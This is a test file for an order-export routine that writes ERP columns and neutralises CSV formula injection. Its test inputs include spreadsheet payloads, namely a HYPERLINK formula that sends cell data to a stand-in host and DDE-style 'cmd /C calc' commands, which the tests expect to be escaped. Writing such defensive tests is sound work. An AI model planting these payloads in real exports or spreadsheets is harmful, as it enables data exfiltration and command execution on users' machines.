import { describe, expect, it } from 'vitest';
import type { Substitution } from '../../../domain/availability.js';
import type { OrderDetail } from '../../../domain/order-view.schema.js';
import { orderExportText, textCell } from './order-export.js';

const product = {
  Code: 'BEER-12',
  Description: 'Lager 12 oz',
  UnitsPerCase: 24,
  IsCaseOnly: false,
  CaseQuantity: 2,
  UnitQuantity: 3,
  Cases: 2,
  Units: 3,
  TotalUnits: 51,
  Substitution: 'Allow' as Substitution,
};

function order(change: Partial<OrderDetail> = {}, productChange: Partial<typeof product> = {}): OrderDetail {
  return {
    Id: 1,
    CustomerId: 1,
    CompanyId: 1001,
    OrderNum: 'W000123',
    OrderType: 'WEB',
    IsWebOrder: true,
    CreateDate: '2025-03-04T15:00:00.000Z',
    DeliveryDate: '2025-03-06',
    Name: 'Pat Smith',
    Phone: '3125550142',
    Email: 'pat@bar.example.com',
    ReferencePO: '',
    Status: 1,
    ProductCount: 1,
    TotalCases: 2,
    CompanyName: "Joe's Bar",
    Products: [{ ...product, ...productChange }],
    ...change,
  } as OrderDetail;
}

const columns = (o: OrderDetail) => orderExportText(o, 'America/Chicago').replace(/\r\n$/, '').split('\t');

describe('textCell (CSV injection, OWASP)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['\t=1+1', `'=1+1`],
    ['\r=1+1', `'=1+1`],
    ['  =1+1', `'=1+1`],
  ])('prefixes %j with a single quote', (value, expected) => {
    expect(textCell(value)).toBe(expected);
  });

  it.each(["Joe's Bar", 'A = B', 'Pat-Smith', 'pat@bar', '12-pack', ''])('leaves %j as it is', (value) => {
    expect(textCell(value)).toBe(value);
  });
});

describe('orderExportText', () => {
  it('writes the ERP columns of a normal order unchanged, the 14th empty for a customer without a PO, the 15th A', () => {
    expect(columns(order())).toEqual([
      '03/04/2025',
      '1001',
      "Joe's Bar",
      '03/06/2025',
      'W000123',
      'Pat Smith',
      '3125550142',
      'WEB',
      'BEER-12',
      'Lager 12 oz',
      '24',
      '3',
      '2',
      '',
      'A',
    ]);
  });

  it("writes each line's substitution as the 15th column: A, N or C (design.md 8.3)", () => {
    expect(columns(order({}, { Substitution: 'Allow' }))[14]).toBe('A');
    expect(columns(order({}, { Substitution: 'Never' }))[14]).toBe('N');
    expect(columns(order({}, { Substitution: 'CallMe' }))[14]).toBe('C');
  });

  it('writes the Reference PO as the 14th column (issue 17)', () => {
    expect(columns(order({ ReferencePO: 'PO-AUDIT-20CHARS-XYZ' }))[13]).toBe('PO-AUDIT-20CHARS-XYZ');
  });

  it('neutralizes formulas in every text column and leaves dates, numbers and phone digits alone', () => {
    const cols = columns(
      order(
        {
          Name: '=HYPERLINK("http://evil.example","x")',
          CompanyName: '@SUM(A1)',
          OrderType: '+WEB',
          ReferencePO: '=1+2',
        },
        { Code: '-1+1', Description: '=cmd|" /C calc"!A0' },
      ),
    );
    expect(cols[2]).toBe("'@SUM(A1)");
    expect(cols[5]).toBe(`'=HYPERLINK("http://evil.example","x")`);
    expect(cols[7]).toBe("'+WEB");
    expect(cols[8]).toBe("'-1+1");
    expect(cols[9]).toBe(`'=cmd|" /C calc"!A0`);
    expect(cols[13]).toBe("'=1+2");
    expect([cols[0], cols[1], cols[3], cols[4], cols[6], cols[10], cols[11], cols[12]]).toEqual([
      '03/04/2025',
      '1001',
      '03/06/2025',
      'W000123',
      '3125550142',
      '24',
      '3',
      '2',
    ]);
  });
});
